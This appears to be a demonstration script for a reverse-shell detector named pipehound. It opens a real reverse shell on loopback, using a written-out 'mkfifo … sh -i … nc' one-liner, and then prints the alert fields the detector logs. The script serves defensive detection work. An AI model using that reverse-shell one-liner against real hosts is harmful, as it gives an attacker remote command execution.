#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Opens a real reverse shell on loopback and shows what pipehound tells of it. Called by tools/quickstart.

usage: demonstrate.py PIPEHOUND
"""
import pathlib
import signal
import subprocess
import sys
import time

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / 'tests/live'))
import live_test
import private_host

PORT = 7459
SHELL = 'rm -f f; mkfifo f; cat f | sh -i 2>&1 | nc.openbsd 127.0.0.1 $P >f'
RECORDING = ROOT / 'tests/data/scenarios/attack/hidden-subshell-true.log.xz'
SHOWN = ('PRIORITY', 'PIPEHOUND_LEVEL', 'PIPEHOUND_REASON', 'PIPEHOUND_FIFO', 'PIPEHOUND_SHELL_PID', 'PIPEHOUND_SHELL_EXE',
         'PIPEHOUND_NETWORK_PID', 'PIPEHOUND_NETWORK_EXE', 'PIPEHOUND_REMOTE_ADDRESS', 'PIPEHOUND_REMOTE_PORT',
         'PIPEHOUND_MITRE', 'PIPEHOUND_INCIDENT', 'PIPEHOUND_SERIALS')


def show(binary, journal):
    print(f'\n$ {SHELL.replace("$P", str(PORT))}\n', flush=True)
    since = time.time()
    peer = live_test.open_shell(SHELL, PORT, 'id')
    alert = live_test.await_alert(journal, since, 'high', 6)
    peer.await_answer()
    heard = next((line for line in peer.heard.decode(errors='replace').splitlines() if 'uid=' in line), 'nothing')
    print(f'The peer typed "id" into the shell that it got, and read: {heard.lstrip("$ ")}\n')
    if alert is None:
        raise SystemExit('No alert came: please report this with the output of `auditctl -s`.')
    print(f'journalctl -t pipehound, {max(0.0, live_test.delay(alert, peer)) * 1000:.0f} ms after the connect:\n')
    print(f'  {alert["MESSAGE"]}')
    for field in SHOWN:
        if field in alert:
            print(f'    {field}={alert[field]}')
    log = private_host.WORK / 'log/audit.log'
    if log.exists():
        print('\nThe same from the stored log, as `pipehound hunt` tells it:\n', flush=True)
        subprocess.run([binary, 'hunt', log], check=False)


def show_recording(binary, reason):
    print(f'\nThe kernel\'s audit is not to be had here ({reason}).\nA recording of a real attack instead:\n', flush=True)
    subprocess.run([binary, 'hunt', RECORDING], check=True)


def main():
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    binary = pathlib.Path(sys.argv[1])
    try:
        running = private_host.audit_status('pid')
    except (OSError, subprocess.CalledProcessError, TypeError):
        return show_recording(binary, 'no answer from it')
    host = private_host.borrowed_host if running else private_host.private_host
    print('Using the auditd that runs, for a moment.' if running else 'Starting an auditd of our own, for a moment.')
    try:
        with host(binary) as journal:
            if not journal.foreign:
                print('No journald runs here: starting one for this demonstration.')
            show(binary, journal)
    except private_host.Unable as reason:
        show_recording(binary, reason)
    return None


if __name__ == '__main__':
    main()
